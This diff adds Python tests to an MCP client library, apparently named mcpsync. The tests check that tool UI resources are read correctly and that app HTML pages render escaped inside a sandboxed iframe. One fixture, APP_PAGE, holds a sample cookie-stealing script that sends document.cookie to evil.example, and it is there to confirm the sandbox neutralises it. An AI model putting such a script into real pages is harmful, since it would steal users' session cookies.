@@ -61,3 +61,48 @@ def test_the_progress_bar_draws_a_text_line_without_tqdm():
         bar(4, 4, "done")
     assert bar.render() == "work [" + "#" * 30 + "] 4/4 done"
     assert out.getvalue().endswith("\n") and "1/4 first" in out.getvalue()
+
+
+# -- MCP Apps, read side (issue 14) ----------------------------------------------------------------
+
+APP_PAGE = "<h1 onclick='steal()'>Chart</h1><script>fetch('https://evil.example/' + document.cookie)</script>"
+
+
+def test_a_tools_ui_resource_is_on_the_tool_and_its_page_shows_in_an_inert_frame():
+    from mcpsync.testing import FakeServer
+
+    server = FakeServer("apps")
+
+    @server.tool(meta={"ui": {"resourceUri": "ui://apps/chart.html"}})
+    def chart(n: int) -> str:
+        return f"{n} bars"
+
+    @server.tool
+    def plain() -> str:
+        return "no view"
+
+    @server.resource("ui://apps/chart.html", mime_type="text/html;profile=mcp-app")
+    def chart_page() -> str:
+        return APP_PAGE
+
+    with server.client() as client:
+        tools = {tool.name: tool for tool in client.list_tools()}
+        assert tools["chart"].ui_resource_uri == "ui://apps/chart.html"
+        assert tools["plain"].ui_resource_uri is None
+        page = client.read_resource(tools["chart"].ui_resource_uri)
+    assert page.contents[0].mime_type == "text/html;profile=mcp-app" and page.text == APP_PAGE
+    shown = page._repr_html_()
+    assert "<iframe sandbox=''" in shown and "srcdoc='" in shown
+    assert "<script" not in shown and "onclick='" not in shown  # the page is escaped into srcdoc
+    assert "&lt;script&gt;" in shown
+
+
+def test_the_older_flat_ui_key_and_odd_values_are_read_with_care():
+    assert Tool.from_dict({"name": "t", "_meta": {"ui/resourceUri": "ui://x"}}).ui_resource_uri == "ui://x"
+    assert Tool.from_dict({"name": "t", "_meta": {"ui": {"resourceUri": 7}}}).ui_resource_uri is None
+    assert Tool.from_dict({"name": "t", "_meta": "nonsense"}).ui_resource_uri is None
+    other = ReadResourceResult.from_dict({"contents": [{"uri": "ui://x", "mimeType": "text/html", "text": "<b>x</b>"}]})
+    assert "<iframe" not in other._repr_html_() and "&lt;b&gt;" in other._repr_html_()  # plain HTML stays text
+    spaced = ReadResourceResult.from_dict({"contents": [
+        {"uri": "ui://x", "mimeType": "TEXT/HTML; charset=utf-8; Profile=MCP-App", "text": "<b>x</b>"}]})
+    assert "<iframe sandbox=''" in spaced._repr_html_()
